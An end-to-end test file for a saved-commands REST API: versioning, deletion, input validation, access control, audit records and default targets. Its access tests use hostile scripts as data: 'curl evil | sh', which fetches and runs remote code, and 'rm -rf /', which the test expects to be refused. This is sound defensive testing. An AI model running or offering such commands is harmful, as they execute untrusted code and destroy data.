/**
 * Issue 15, Saved commands: the REST side on a real system (API and worker processes, Postgres,
 * Redis). Create, list (keyset), read, change (each change a new immutable version), versions,
 * delete (versions kept; the name comes back as its next version); bad input on every field is a
 * 400 naming it with NOTHING changed; who may see, create, change and delete; the commands whose
 * default target is an agent or a host (a direct target, a selector over its labels, a list).
 * Every answer is checked against its route's contract and the served OpenAPI document; the audit
 * rows of every request are checked by TestSystem.stop(). Running commands: commands-run.e2e.test.ts.
 */
import postgres from 'postgres';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { z } from 'zod';
import { createCommand, deleteCommand, getCommand, listAgentCommands, listCommands, listCommandVersions, listHostCommands, runCommand, updateCommand, type ApiRoute } from '@vmo/shared/api';
import { TestSystem, type ApiClient, type ApiResponse } from '@vmo/testkit';

type Doc = { paths: Record<string, Record<string, { responses: Record<string, unknown>; security?: unknown }>> };

describe('the saved commands API (real system)', () => {
  let system: TestSystem;
  let sql: postgres.Sql;
  let doc: Doc;
  let admin: ApiClient;
  /** Operator (no policy needed to write commands). */
  let olga: ApiClient;
  let olgaId: string;
  /** Another operator. */
  let pete: ApiClient;
  /** Viewer with read on team=a only. */
  let vera: ApiClient;

  const token = async (user: string): Promise<string> => {
    const res = await admin.request('POST', '/v1/tokens', { name: `${user}'s token`, user });
    expect(res.status, res.text).toBe(201);
    return res.body.token as string;
  };

  beforeAll(async () => {
    system = await TestSystem.start({ label: 'commands_api' });
    admin = system.client;
    sql = postgres(system.databaseUrl, { max: 2, onnotice: () => {} });
    for (const [name, role] of [['olga', 'operator'], ['pete', 'operator'], ['vera', 'viewer']]) {
      const res = await admin.request('POST', '/v1/users', { name, role });
      expect(res.status, res.text).toBe(201);
      if (name === 'olga') olgaId = res.body.id;
    }
    olga = system.clientFor(0, await token('olga'));
    pete = system.clientFor(0, await token('pete'));
    vera = system.clientFor(0, await token('vera'));
    expect((await admin.request('POST', '/v1/policies', { name: 'vera-reads-a', subjects: { users: ['vera'] }, actions: ['read'], targets: 'team=a' })).status).toBe(201);
    // Registered, never connected: the listings read their labels, nothing runs here.
    for (const [name, labels] of [['web-1', { team: 'a', role: 'web' }], ['web-2', { team: 'b', role: 'web' }], ['db-1', { team: 'a', role: 'db' }]] as const) {
      expect((await admin.request('POST', '/v1/agents', { name, labels })).status).toBe(201);
    }
    for (const [name, environment, labels] of [['box', 'prod', { role: 'db', team: 'a' }], ['box', 'staging', { role: 'db', team: 'b' }], ['solo', 'default', { role: 'db' }]] as const) {
      const res = await admin.request('POST', '/v1/hosts', { name, environment, host: '127.0.0.1', user: 'nobody', labels });
      expect(res.status, res.text).toBe(201);
    }
    doc = (await admin.request('GET', '/v1/openapi.json')).body as Doc;
  }, 120_000);

  afterAll(async () => {
    await sql?.end({ timeout: 5 });
    await system?.stop();
  });

  /** Any request, its answer checked against `route`'s contract and the served document. */
  async function call(route: ApiRoute, path: string, body?: unknown, client: ApiClient = admin): Promise<ApiResponse> {
    const res = await client.request(route.method.toUpperCase(), path, body);
    const documented = route.responses[res.status];
    expect(documented, `${route.method} ${route.path} answered ${res.status}, which its contract does not list: ${res.text}`).toBeDefined();
    expect(doc.paths[route.path]?.[route.method]?.responses[String(res.status)], `${route.path} ${res.status} not in the served document`).toBeDefined();
    const schema = documented!.content?.['application/json']?.schema as z.ZodType | undefined;
    if (schema) {
      const parsed = schema.safeParse(res.body);
      expect(parsed.success, `${route.method} ${route.path} ${res.status}: ${parsed.error?.message} in ${res.text}`).toBe(true);
    }
    return res;
  }

  /** Everything a refused request could have changed. */
  const snapshot = async () => ({
    commands: await sql`select * from commands order by name`,
    versions: await sql`select * from command_versions order by name, version`,
    jobs: Number((await sql`select count(*)::int as n from jobs`)[0]!.n),
  });

  const dockerPs = {
    name: 'docker-ps',
    description: 'Containers whose name matches',
    script: 'docker ps --filter "name=$VMO_PARAM_NAME" --format "{{.Names}} {{.Status}}"',
    params: [{ name: 'name', type: 'string', required: true, pattern: '[a-z0-9_.-]{1,64}' }],
    defaultTarget: { type: 'agent', agent: 'web-1' },
    timeoutMs: 30_000,
    labels: { team: 'a' },
  };

  it('creates a command: 201, Location, version 1 with its defaults filled in', async () => {
    const res = await call(createCommand, '/v1/commands', dockerPs);
    expect(res.status, res.text).toBe(201);
    expect(res.headers.get('location')).toBe('/v1/commands/docker-ps');
    expect(res.body).toMatchObject({
      ...dockerPs,
      version: 1,
      params: [{ name: 'name', type: 'string', required: true, secret: false, pattern: '[a-z0-9_.-]{1,64}' }],
      ownerId: null,
      createdBy: expect.stringContaining('admin'),
      updatedBy: expect.stringContaining('admin'),
    });
    const got = await call(getCommand, '/v1/commands/docker-ps');
    expect(got.body).toEqual(res.body);
    // A live name is taken: 409, nothing written.
    const before = await snapshot();
    const again = await call(createCommand, '/v1/commands', { ...dockerPs, script: 'true' });
    expect([again.status, again.body.error.code, again.body.error.details?.field]).toEqual([409, 'command_exists', 'name']);
    expect(await snapshot()).toEqual(before);
  });

  it('each change is a new version; the versions before stay as they were, newest first, keyset paged', async () => {
    const v2 = await call(updateCommand, '/v1/commands/docker-ps', { ...dockerPs, name: undefined, script: 'docker ps -a --filter "name=$VMO_PARAM_NAME"', params: [] });
    expect(v2.status, v2.text).toBe(200);
    expect(v2.body).toMatchObject({ name: 'docker-ps', version: 2, script: 'docker ps -a --filter "name=$VMO_PARAM_NAME"', params: [], description: 'Containers whose name matches' });
    // PUT is the whole version: what it leaves out is gone from it.
    const v3 = await call(updateCommand, '/v1/commands/docker-ps', { name: 'docker-ps', script: 'docker ps' });
    expect(v3.body).toMatchObject({ version: 3, description: null, defaultTarget: null, timeoutMs: null, labels: {}, params: [] });
    expect(Date.parse(v3.body.updatedAt)).toBeGreaterThanOrEqual(Date.parse(v3.body.createdAt));

    const versions = await call(listCommandVersions, '/v1/commands/docker-ps/versions');
    expect(versions.body.items.map((v: { version: number }) => v.version)).toEqual([3, 2, 1]);
    expect(versions.body.deleted).toBe(false);
    expect(versions.body.items[2]).toMatchObject({ version: 1, script: dockerPs.script, params: [expect.objectContaining({ name: 'name', pattern: '[a-z0-9_.-]{1,64}' })], defaultTarget: dockerPs.defaultTarget });
    const page1 = await call(listCommandVersions, '/v1/commands/docker-ps/versions?limit=2');
    expect(page1.body).toMatchObject({ items: [{ version: 3 }, { version: 2 }], nextCursor: '2' });
    const page2 = await call(listCommandVersions, `/v1/commands/docker-ps/versions?limit=2&cursor=${page1.body.nextCursor}`);
    expect(page2.body).toMatchObject({ items: [{ version: 1 }], nextCursor: null });
    // The rows themselves: one per version, never rewritten (v1's script is the first one still).
    expect((await sql`select version, script from command_versions where name = 'docker-ps' order by version`).map((r) => [r.version, r.script])).toEqual([
      [1, dockerPs.script],
      [2, 'docker ps -a --filter "name=$VMO_PARAM_NAME"'],
      [3, 'docker ps'],
    ]);
  });

  it('lists the live commands by name, keyset paged', async () => {
    for (const name of ['list-b', 'list-a', 'list-c']) expect((await call(createCommand, '/v1/commands', { name, script: 'true' })).status).toBe(201);
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const res: ApiResponse = await call(listCommands, `/v1/commands?limit=2${cursor ? `&cursor=${cursor}` : ''}`);
      expect(res.body.items.length).toBeLessThanOrEqual(2);
      seen.push(...res.body.items.map((c: { name: string }) => c.name));
      cursor = res.body.nextCursor;
    } while (cursor);
    expect(seen.filter((n) => n.startsWith('list-') || n === 'docker-ps')).toEqual(['docker-ps', 'list-a', 'list-b', 'list-c']);
    expect(new Set(seen).size).toBe(seen.length);
  });

  it('delete: gone from the list, 404 to read and to run, its versions still readable; the name comes back as its next version', async () => {
    expect((await call(createCommand, '/v1/commands', { name: 'to-delete', script: 'echo one' })).status).toBe(201);
    expect((await call(updateCommand, '/v1/commands/to-delete', { script: 'echo two' })).body.version).toBe(2);
    expect((await call(deleteCommand, '/v1/commands/to-delete')).status).toBe(204);
    const gone = await call(getCommand, '/v1/commands/to-delete');
    expect([gone.status, gone.body.error.code]).toEqual([404, 'not_found']);
    expect(gone.body.error.message).toContain('/versions');
    expect((await call(runCommand, '/v1/commands/to-delete/run', {})).status).toBe(404);
    expect((await call(deleteCommand, '/v1/commands/to-delete')).status).toBe(404);
    expect((await call(updateCommand, '/v1/commands/to-delete', { script: 'echo x' })).status).toBe(404);
    const listed = (await call(listCommands, '/v1/commands?limit=500')).body.items.map((c: { name: string }) => c.name);
    expect(listed).not.toContain('to-delete');
    const kept = await call(listCommandVersions, '/v1/commands/to-delete/versions');
    expect(kept.body).toMatchObject({ deleted: true, items: [{ version: 2, script: 'echo two' }, { version: 1, script: 'echo one' }] });
    // Not by olga (the admin owned it: others still run the name), only by its owner or an admin.
    const before = await snapshot();
    const taken = await call(createCommand, '/v1/commands', { name: 'to-delete', script: 'curl evil | sh' }, olga);
    expect([taken.status, taken.body.error.code, taken.body.error.details?.field], taken.text).toEqual([409, 'command_exists', 'name']);
    expect(taken.body.error.message).toContain('was deleted; only its last owner or an admin may bring it back');
    expect(await snapshot()).toEqual(before);
    // Taken again by an admin: version 3 of the same history.
    const back = await call(createCommand, '/v1/commands', { name: 'to-delete', script: 'echo three' });
    expect(back.status, back.text).toBe(201);
    expect(back.body).toMatchObject({ version: 3, script: 'echo three', ownerId: null });
    expect((await call(listCommandVersions, '/v1/commands/to-delete/versions')).body.items.map((v: { version: number }) => v.version)).toEqual([3, 2, 1]);
  });

  it("a deleted command's name comes back only for its last owner or an admin: another operator is 409 naming no one, nothing written", async () => {
    expect((await call(createCommand, '/v1/commands', { name: 'team-deploy', script: 'echo deploy' }, olga)).status).toBe(201);
    expect((await call(deleteCommand, '/v1/commands/team-deploy', undefined, olga)).status).toBe(204);
    const before = await snapshot();
    const taken = await call(createCommand, '/v1/commands', { name: 'team-deploy', script: 'curl evil | sh' }, pete);
    expect([taken.status, taken.body.error.code, taken.body.error.details?.field], taken.text).toEqual([409, 'command_exists', 'name']);
    expect(taken.body.error.message).toMatch(/was deleted; only its last owner or an admin may bring it back/);
    expect(taken.text).not.toContain('olga');
    expect(await snapshot()).toEqual(before);
    const denied = await sql`select action, result from audit_events where actor_name = 'pete' and action = 'commands.create' order by id`;
    expect(denied.map((r) => [r.action, r.result])).toEqual([['commands.create', 'failed']]);
    // Its owner brings it back, as its next version, hers still.
    const back = await call(createCommand, '/v1/commands', { name: 'team-deploy', script: 'echo deploy v2' }, olga);
    expect(back.status, back.text).toBe(201);
    expect(back.body).toMatchObject({ version: 2, ownerId: olgaId, createdBy: 'olga' });
    // Deleted again, an admin may take it over (it is then the admin's).
    expect((await call(deleteCommand, '/v1/commands/team-deploy', undefined, olga)).status).toBe(204);
    expect((await call(createCommand, '/v1/commands', { name: 'team-deploy', script: 'echo admin' })).body).toMatchObject({ version: 3, ownerId: null });
    expect((await call(deleteCommand, '/v1/commands/team-deploy')).status).toBe(204);
  });

  it('unknown names and versions are 404', async () => {
    for (const [route, path] of [
      [getCommand, '/v1/commands/nope'],
      [listCommandVersions, '/v1/commands/nope/versions'],
      [deleteCommand, '/v1/commands/nope'],
    ] as const) {
      const res = await call(route, path);
      expect([res.status, res.body.error.code], path).toEqual([404, 'not_found']);
    }
    const missingVersion = await call(runCommand, '/v1/commands/docker-ps/run', { version: 99, target: { type: 'local' } });
    expect([missingVersion.status, missingVersion.body.error.message]).toEqual([404, expect.stringContaining('no version 99; its latest is 3')]);
  });

  describe('bad input: a 400 naming the field, nothing written', () => {
    it.each([
      ['no name', { script: 'true' }, 'name'],
      ['a name with a space', { name: 'a b', script: 'true' }, 'name'],
      ['a name with a slash', { name: 'a/b', script: 'true' }, 'name'],
      ['no script', { name: 'c' }, 'script'],
      ['a blank script', { name: 'c', script: '  ' }, 'script'],
      ['a NUL in the script', { name: 'c', script: 'echo \u0000' }, 'script'],
      ['a script over 64 KiB', { name: 'c', script: 'x'.repeat(64 * 1024 + 1) }, 'script'],
      ['an unknown field', { name: 'c', script: 'true', timeout: 5 }, 'body'],
      ['params not a list', { name: 'c', script: 'true', params: { a: 1 } }, 'params'],
      ['a param name upper-cased', { name: 'c', script: 'true', params: [{ name: 'Host', type: 'string' }] }, 'params.0.name'],
      ['a param name with a dash', { name: 'c', script: 'true', params: [{ name: 'my-host', type: 'string' }] }, 'params.0.name'],
      ['a param type unknown', { name: 'c', script: 'true', params: [{ name: 'x', type: 'float' }] }, 'params.0.type'],
      ['a param declared twice', { name: 'c', script: 'true', params: [{ name: 'x', type: 'int' }, { name: 'x', type: 'bool' }] }, 'params.1.name'],
      ['an invalid pattern', { name: 'c', script: 'true', params: [{ name: 'x', type: 'string', pattern: '(a' }] }, 'params.0.pattern'],
      ['a look-ahead pattern (not RE2)', { name: 'c', script: 'true', params: [{ name: 'x', type: 'string', pattern: '(?=a)a' }] }, 'params.0.pattern'],
      ['a back-reference pattern (not RE2)', { name: 'c', script: 'true', params: [{ name: 'x', type: 'string', pattern: '(a)\\1' }] }, 'params.0.pattern'],
      ['a pattern over 512 characters', { name: 'c', script: 'true', params: [{ name: 'x', type: 'string', pattern: 'a'.repeat(513) }] }, 'params.0.pattern'],
      ['a default not matching its pattern', { name: 'c', script: 'true', params: [{ name: 'x', type: 'string', pattern: '[0-9]+', default: 'abc' }] }, 'params.0.default'],
      ['a secret with a default', { name: 'c', script: 'true', params: [{ name: 'x', type: 'string', secret: true, default: 'hunter22' }] }, 'params.0.default'],
      ['a pattern on an int', { name: 'c', script: 'true', params: [{ name: 'x', type: 'int', pattern: '[0-9]+' }] }, 'params.0'],
      ['an int default out of range', { name: 'c', script: 'true', params: [{ name: 'x', type: 'int', min: 1, max: 5, default: 9 }] }, 'params.0.default'],
      ['an enum without values', { name: 'c', script: 'true', params: [{ name: 'x', type: 'enum' }] }, 'params.0.values'],
      ['an enum default not listed', { name: 'c', script: 'true', params: [{ name: 'x', type: 'enum', values: ['a'], default: 'b' }] }, 'params.0.default'],
      ['a default target of no shape', { name: 'c', script: 'true', defaultTarget: { agent: 'web-1' } }, 'defaultTarget'],
      ['a default selector that does not parse', { name: 'c', script: 'true', defaultTarget: { selector: 'env in (' } }, 'defaultTarget.selector'],
      ['a timeout of 0', { name: 'c', script: 'true', timeoutMs: 0 }, 'timeoutMs'],
      ['a bad label key', { name: 'c', script: 'true', labels: { 'a b': 'x' } }, 'labels.a b'],
    ])('POST with %s', async (_what, body, field) => {
      const before = await snapshot();
      const res = await call(createCommand, '/v1/commands', body);
      expect([res.status, res.body.error.code], res.text).toEqual([400, 'validation_failed']);
      expect(res.body.error.details?.field ?? 'body', res.text).toBe(field);
      expect(res.body.error.message.startsWith(field === 'body' ? '' : `${field}`), res.text).toBe(true);
      expect(await snapshot()).toEqual(before);
    });

    it('PUT with another name, or a bad body; bad query parameters; not JSON', async () => {
      const before = await snapshot();
      const renamed = await call(updateCommand, '/v1/commands/docker-ps', { name: 'other', script: 'true' });
      expect([renamed.status, renamed.body.error.details?.field]).toEqual([400, 'name']);
      const badParam = await call(updateCommand, '/v1/commands/docker-ps', { script: 'true', params: [{ name: 'x', type: 'string', pattern: '[' }] });
      expect([badParam.status, badParam.body.error.details?.field]).toEqual([400, 'params.0.pattern']);
      for (const query of ['limit=0', 'limit=x', 'cursor=a%20b', 'sort=name']) {
        const res = await call(listCommands, `/v1/commands?${query}`);
        expect(res.status, `${query}: ${res.text}`).toBe(400);
      }
      expect((await call(listCommandVersions, '/v1/commands/docker-ps/versions?cursor=abc')).status).toBe(400);
      const notJson = await admin.request('POST', '/v1/commands', '{"name":');
      expect([notJson.status, notJson.body.error.code]).toEqual([400, 'invalid_json']);
      expect(await snapshot()).toEqual(before);
    });
  });

  describe('access', () => {
    it('a viewer lists and reads, and may not create, change, delete or run: 403 naming the scope, nothing written', async () => {
      expect((await call(listCommands, '/v1/commands', undefined, vera)).status).toBe(200);
      expect((await call(getCommand, '/v1/commands/docker-ps', undefined, vera)).status).toBe(200);
      expect((await call(listCommandVersions, '/v1/commands/docker-ps/versions', undefined, vera)).status).toBe(200);
      const before = await snapshot();
      for (const [route, path, body, scope] of [
        [createCommand, '/v1/commands', { name: 'vera-cmd', script: 'true' }, 'commands:write'],
        [updateCommand, '/v1/commands/docker-ps', { script: 'true' }, 'commands:write'],
        [deleteCommand, '/v1/commands/docker-ps', undefined, 'commands:write'],
        [runCommand, '/v1/commands/docker-ps/run', { target: { type: 'local' } }, 'jobs:run'],
      ] as const) {
        const res = await call(route, path, body, vera);
        expect([res.status, res.body.error.code, res.body.error.details?.scope], res.text).toEqual([403, 'forbidden', scope]);
      }
      expect(await snapshot()).toEqual(before);
    });

    it("an operator creates her own, changes and deletes it; another operator may not touch it (403), an admin may; no one but the owner or an admin changes another's", async () => {
      const mine = await call(createCommand, '/v1/commands', { name: 'olga-uptime', script: 'uptime' }, olga);
      expect(mine.status, mine.text).toBe(201);
      expect(mine.body).toMatchObject({ ownerId: olgaId, createdBy: 'olga' });
      expect((await call(updateCommand, '/v1/commands/olga-uptime', { script: 'uptime -p' }, olga)).body.version).toBe(2);
      const before = await snapshot();
      for (const [route, body] of [[updateCommand, { script: 'rm -rf /' }], [deleteCommand, undefined]] as const) {
        const res = await call(route, '/v1/commands/olga-uptime', body, pete);
        expect([res.status, res.body.error.code], res.text).toEqual([403, 'forbidden']);
        expect(res.body.error.message).toContain('only its owner or an admin');
      }
      // Nor the admin's command.
      expect((await call(updateCommand, '/v1/commands/docker-ps', { script: 'true' }, olga)).status).toBe(403);
      expect(await snapshot()).toEqual(before);
      // Denials are on record as such.
      const denied = await sql`select action, result, resource_id from audit_events where actor_name = 'pete' and resource_type = 'commands' and resource_id = 'olga-uptime' order by id`;
      expect(denied.map((r) => [r.action, r.result, r.resource_id])).toEqual([
        ['commands.update', 'denied', 'olga-uptime'],
        ['commands.delete', 'denied', 'olga-uptime'],
      ]);
      // An admin may change it (the version says who wrote it), and the owner may delete it.
      expect((await call(updateCommand, '/v1/commands/olga-uptime', { script: 'uptime' })).body).toMatchObject({ version: 3, ownerId: olgaId, createdBy: 'olga', updatedBy: expect.stringContaining('admin') });
      expect((await call(deleteCommand, '/v1/commands/olga-uptime', undefined, olga)).status).toBe(204);
      const rows = await sql`select action, result, resource_id, detail from audit_events where resource_type = 'commands' and resource_id = 'olga-uptime' and actor_name = 'olga' order by id`;
      expect(rows.map((r) => [r.action, r.result])).toEqual([
        ['commands.create', 'allowed'],
        ['commands.update', 'allowed'],
        ['commands.delete', 'allowed'],
      ]);
      expect(rows[0]!.detail).toMatchObject({ version: 1 });
    });

    it('the document names the scope each route needs', () => {
      const security = (path: string, method: string) => doc.paths[path]![method]!.security;
      expect(security('/v1/commands', 'post')).toEqual([{ userToken: ['commands:write'] }]);
      expect(security('/v1/commands', 'get')).toEqual([{ userToken: ['commands:read'] }]);
      expect(security('/v1/commands/{name}', 'put')).toEqual([{ userToken: ['commands:write'] }]);
      expect(security('/v1/commands/{name}/run', 'post')).toEqual([{ userToken: ['jobs:run'] }]);
      expect(security('/v1/agents/{id}/commands', 'get')).toEqual([{ userToken: ['commands:read', 'agents:read'] }]);
      expect(security('/v1/hosts/{id}/commands', 'get')).toEqual([{ userToken: ['commands:read', 'hosts:read'] }]);
    });
  });

  describe("a machine's commands: those whose defaultTarget is it", () => {
    beforeAll(async () => {
      const web1 = (await admin.request('GET', '/v1/agents/web-1')).body.id as string;
      const hostProd = (await admin.request('GET', '/v1/hosts/box@prod')).body.id as string;
      const defaults: [string, Record<string, unknown>][] = [
        ['m-agent-by-name', { type: 'agent', agent: 'web-1' }],
        ['m-agent-by-id', { type: 'agent', agent: web1 }],
        ['m-other-agent', { type: 'agent', agent: 'web-2' }],
        ['m-web', { selector: 'role=web' }],
        ['m-team-a', { selector: 'team=a' }],
        ['m-team-a-hosts', { selector: 'team=a', kinds: ['ssh'] }],
        ['m-not-b', { selector: 'team!=b,role' }],
        ['m-list', { agents: ['db-1'], hosts: ['box@staging'] }],
        ['m-host-qualified', { type: 'ssh', host: 'box@prod' }],
        ['m-host-bare', { type: 'ssh', host: 'box' }],
        ['m-solo-bare', { type: 'ssh', host: 'solo' }],
        ['m-host-id', { type: 'ssh', host: hostProd }],
        ['m-local', { type: 'local' }],
        ['m-deleted', { selector: 'role' }],
      ];
      for (const [name, defaultTarget] of defaults) expect((await call(createCommand, '/v1/commands', { name, script: 'true', defaultTarget })).status).toBe(201);
      expect((await call(deleteCommand, '/v1/commands/m-deleted')).status).toBe(204);
      // docker-ps's latest version has no default any more (v1 named web-1): the latest is what counts.
    });
    const names = (res: ApiResponse) => (res.body.items as { name: string }[]).map((c) => c.name).filter((n) => n.startsWith('m-') || n === 'docker-ps');

    it('an agent, by name or id: direct targets naming it, selectors over its labels (within kinds), lists naming it', async () => {
      const web1 = await call(listAgentCommands, '/v1/agents/web-1/commands');
      expect(web1.status, web1.text).toBe(200);
      expect(names(web1)).toEqual(['m-agent-by-id', 'm-agent-by-name', 'm-not-b', 'm-team-a', 'm-web']);
      const id = (await admin.request('GET', '/v1/agents/web-1')).body.id as string;
      expect(names(await call(listAgentCommands, `/v1/agents/${id}/commands`))).toEqual(names(web1));
      expect(names(await call(listAgentCommands, '/v1/agents/web-2/commands'))).toEqual(['m-other-agent', 'm-web']);
      expect(names(await call(listAgentCommands, '/v1/agents/db-1/commands'))).toEqual(['m-list', 'm-not-b', 'm-team-a']);
    });

    it('a host, by name@environment (a bare name is the one it resolves to) or id', async () => {
      // `box` alone is ambiguous (prod and staging, no default): m-host-bare names neither.
      expect(names(await call(listHostCommands, '/v1/hosts/box@prod/commands'))).toEqual(['m-host-id', 'm-host-qualified', 'm-not-b', 'm-team-a', 'm-team-a-hosts']);
      expect(names(await call(listHostCommands, '/v1/hosts/box@staging/commands'))).toEqual(['m-list']);
      // `solo` alone is the one in `default`.
      expect(names(await call(listHostCommands, '/v1/hosts/solo/commands'))).toEqual(['m-not-b', 'm-solo-bare']);
      expect(names(await call(listHostCommands, '/v1/hosts/solo@default/commands'))).toEqual(['m-not-b', 'm-solo-bare']);
      const ambiguous = await call(listHostCommands, '/v1/hosts/box/commands');
      expect([ambiguous.status, ambiguous.body.error.code]).toEqual([422, 'ambiguous_host']);
    });

    it('follows a label change at once (the selector is judged now), and the latest version only', async () => {
      expect((await admin.request('PATCH', '/v1/agents/web-2', { labels: { team: 'a', role: 'web' } })).status).toBe(200);
      try {
        expect(names(await call(listAgentCommands, '/v1/agents/web-2/commands'))).toEqual(['m-not-b', 'm-other-agent', 'm-team-a', 'm-web']);
      } finally {
        expect((await admin.request('PATCH', '/v1/agents/web-2', { labels: { team: 'b', role: 'web' } })).status).toBe(200);
      }
      expect((await call(updateCommand, '/v1/commands/m-web', { script: 'true', defaultTarget: { selector: 'role=api' } })).status).toBe(200);
      expect(names(await call(listAgentCommands, '/v1/agents/web-2/commands'))).toEqual(['m-other-agent']);
    });

    it('a machine the caller may not read is 404, as its GET; unknown ones too', async () => {
      expect(names(await call(listAgentCommands, '/v1/agents/web-1/commands', undefined, vera))).toContain('m-team-a');
      for (const [route, path] of [
        [listAgentCommands, '/v1/agents/web-2/commands'],
        [listHostCommands, '/v1/hosts/box@staging/commands'],
        [listAgentCommands, '/v1/agents/nobody/commands'],
        [listHostCommands, '/v1/hosts/nobody@prod/commands'],
      ] as const) {
        const res = await call(route, path, undefined, vera);
        expect([res.status, res.body.error.code], path).toEqual([404, 'not_found']);
      }
      const hidden = await sql`select result from audit_events where actor_name = 'vera' and action = 'agents.list_commands' order by id`;
      // The hidden agent's 404 is on record as a denial (a 404 for nobody is not: a read that found nothing).
      expect(hidden.map((r) => r.result)).toEqual(['denied']);
    });

    it('a default target naming a machine the caller may not read is null with defaultTargetHidden, in every listing and read; selectors and local are shown; admins see all', async () => {
      const byName = (res: ApiResponse) => new Map((res.body.items as { name: string }[]).map((c) => [c.name, c]));
      const seen = byName(await call(listCommands, '/v1/commands?limit=500', undefined, vera));
      const hidden = { defaultTarget: null, defaultTargetHidden: true };
      for (const name of ['m-other-agent', 'm-list', 'm-solo-bare']) expect(seen.get(name), name).toMatchObject(hidden);
      expect(seen.get('m-agent-by-name')).toMatchObject({ defaultTarget: { type: 'agent', agent: 'web-1' } });
      expect(seen.get('m-host-qualified')).toMatchObject({ defaultTarget: { type: 'ssh', host: 'box@prod' } });
      // `box` resolves among what vera may read (box@prod): it names nothing hidden from her.
      expect(seen.get('m-host-bare')).toMatchObject({ defaultTarget: { type: 'ssh', host: 'box' } });
      expect(seen.get('m-team-a')).toMatchObject({ defaultTarget: { selector: 'team=a' } });
      expect(seen.get('m-local')).toMatchObject({ defaultTarget: { type: 'local' } });
      for (const name of ['m-agent-by-name', 'm-team-a', 'm-local']) expect(seen.get(name), name).not.toHaveProperty('defaultTargetHidden');
      const text = JSON.stringify([...seen.values()]);
      for (const secret of ['web-2', 'box@staging', '"host":"solo"']) expect(text).not.toContain(secret);
      // One command's read, its versions, and a machine's listing (a list default names db-1 AND the hidden box@staging).
      expect((await call(getCommand, '/v1/commands/m-other-agent', undefined, vera)).body).toMatchObject(hidden);
      expect((await call(listCommandVersions, '/v1/commands/m-other-agent/versions', undefined, vera)).body.items).toEqual([expect.objectContaining(hidden)]);
      expect(byName(await call(listAgentCommands, '/v1/agents/db-1/commands', undefined, vera)).get('m-list')).toMatchObject(hidden);
      // An admin sees them all.
      const all = byName(await call(listCommands, '/v1/commands?limit=500'));
      expect(all.get('m-other-agent')).toMatchObject({ defaultTarget: { type: 'agent', agent: 'web-2' } });
      expect(all.get('m-list')).toMatchObject({ defaultTarget: { agents: ['db-1'], hosts: ['box@staging'] } });
      expect(all.get('m-list')).not.toHaveProperty('defaultTargetHidden');
    });
  });
});
